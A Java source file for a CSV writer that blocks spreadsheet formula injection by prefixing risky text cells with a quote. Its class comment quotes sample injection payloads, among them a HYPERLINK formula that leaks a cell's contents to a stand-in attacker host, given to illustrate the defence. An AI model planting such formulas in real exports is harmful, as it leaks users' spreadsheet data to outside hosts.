package io.gridcast.bridge.text;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

/**
 * The one CSV writer of Gridcast: RFC 4180 quoting (Jackson's CSV module) plus the OWASP
 * defence against spreadsheet formula injection. Quoting alone does not stop Excel, LibreOffice
 * or Google Sheets from evaluating a cell such as {@code =HYPERLINK("https://evil.example/?leak="&A1,"Open")},
 * {@code @SUM(…)}, {@code +1+cmd} or {@code -2+3}: every text cell that begins with {@code =},
 * {@code +}, {@code -}, {@code @}, a tab or a carriage return is prefixed with a single quote,
 * which spreadsheets show as text. Numbers added with {@link #row(Object...)} as {@link Number}s
 * are written as they are, so numeric columns stay numeric.
 *
 * <pre>{@code
 * byte[] csv = SafeCsv.withHeader("date", "episode", "starts")
 *     .row(day, episode.name(), stats.starts())
 *     .toBytes();
 * }</pre>
 *
 * <p>Not thread-safe; {@link #neutralise(String)} is.
 */
public final class SafeCsv {

  private static final CsvMapper CSV = new CsvMapper();

  private final int columns;
  private final List<String[]> rows = new ArrayList<>();

  private SafeCsv(String[] header) {
    this.columns = header.length;
    rows.add(Arrays.stream(header).map(SafeCsv::neutralise).toArray(String[]::new));
  }

  /**
   * A CSV document with this header row.
   *
   * @throws IllegalArgumentException if no column is named
   */
  public static SafeCsv withHeader(String... header) {
    if (header == null || header.length == 0) {
      throw new IllegalArgumentException("header: name at least one column");
    }
    return new SafeCsv(header);
  }

  /**
   * Adds a row: {@link Number}s are written as they are, everything else as neutralised text
   * ({@code null} as an empty cell).
   *
   * @throws IllegalArgumentException if the row does not have as many cells as the header
   */
  public SafeCsv row(Object... cells) {
    if (cells.length != columns) {
      throw new IllegalArgumentException("a row needs " + columns + " cells, this one has " + cells.length);
    }
    String[] row = new String[cells.length];
    for (int i = 0; i < cells.length; i++) {
      Object c = cells[i];
      row[i] = c == null ? "" : c instanceof Number ? c.toString() : neutralise(c.toString());
    }
    rows.add(row);
    return this;
  }

  /** The document as UTF-8 bytes, header first, one line per row. */
  public byte[] toBytes() {
    try {
      return CSV.writeValueAsString(rows).getBytes(StandardCharsets.UTF_8);
    } catch (JsonProcessingException e) {
      throw new IllegalStateException("encoding rows as CSV failed", e);
    }
  }

  /**
   * A text cell as a spreadsheet will show it and never evaluate: prefixed with {@code '} when
   * it begins with {@code =}, {@code +}, {@code -}, {@code @}, a tab or a carriage return.
   */
  public static String neutralise(String cell) {
    if (cell == null || cell.isEmpty()) {
      return cell;
    }
    char first = cell.charAt(0);
    return first == '=' || first == '+' || first == '-' || first == '@' || first == '\t' || first == '\r'
        ? "'" + cell
        : cell;
  }
}
